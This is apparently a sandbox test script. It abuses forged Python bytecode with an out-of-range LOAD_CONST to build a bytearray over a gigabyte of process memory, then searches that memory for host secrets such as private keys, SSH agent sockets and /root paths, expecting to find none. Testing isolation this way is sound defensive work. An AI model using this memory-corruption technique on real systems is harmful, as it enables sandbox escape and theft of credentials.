#: what: Forges a bytearray over the whole memory with bad bytecode, and reads it in search of the host.
#: expect: exited 0
#: timeout: 20
#: stdout: 1073741824
#: memory: 256
#: never: found
import opcode
import re
import struct


def victim():
    return None


def object_at(address):
    """Has the interpreter load a constant from far outside of its constants: the object that starts at this address."""
    pointer = struct.pack("<I", address)
    kept.append(pointer)
    index = (id(pointer) + 16 - (id(kept[0]) + 12)) // 4 & 0xFFFFFFFF
    code = [opcode.opmap["RESUME"], 0]
    for shift in (24, 16, 8):
        code += [opcode.opmap["EXTENDED_ARG"], index >> shift & 255]
    code += [opcode.opmap["LOAD_CONST"], index & 255, opcode.opmap["RETURN_VALUE"], 0]
    victim.__code__ = victim.__code__.replace(co_code=bytes(code), co_consts=kept[0])
    return victim()


def forged(content):
    """An object that consists of these bytes."""
    kept.append(content)
    return object_at(id(content) + 16)


def bytearray_over(start, length):
    return forged(struct.pack("<IIiIIIIi", 10_000, id(bytearray), length, 0, length, start, start, 0))


kept = [(None, 1)]
memory = bytearray_over(1, 1 << 30)
print(len(memory))
# Patterns that do not hold what they look for: this script is in the memory too.
for secret in (rb"H[O]STNAME=", rb"L[D]_PRELOAD=", rb"BEGIN [P]RIVATE KEY", rb"SSH_[A]UTH_SOCK", rb"/r[o]ot/\."):
    if re.search(secret, memory[1 : 60 << 20]):
        print("found", secret)
for path in set(re.findall(rb"/[\w./-]+/(?:Objects|Modules|Parser|guest)/[\w/]+\.[ch]\b", memory[1 : 60 << 20])):
    if not path.startswith((b"/usr/", b"/source/")):
        print("found", path)
